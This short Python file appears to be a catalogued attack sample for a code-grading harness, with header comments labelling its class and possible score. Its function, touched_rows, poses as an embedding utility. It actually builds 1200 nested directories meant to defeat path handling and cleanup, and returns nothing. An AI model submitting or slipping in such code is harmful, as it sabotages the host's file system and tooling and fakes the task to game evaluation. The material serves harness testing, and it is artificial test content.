# attack: leaves a folder nested deeper than any path or recursion reaches
# class: A12
# laid over: reference
# may score: 33

import os


def touched_rows(ids, vocab_size, padding_idx=None):
    here = os.open(".", os.O_RDONLY)
    for _ in range(1200):
        os.mkdir("deeper", dir_fd=here)
        inner = os.open("deeper", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.close(os.open("note", os.O_CREAT, dir_fd=here))
    return None
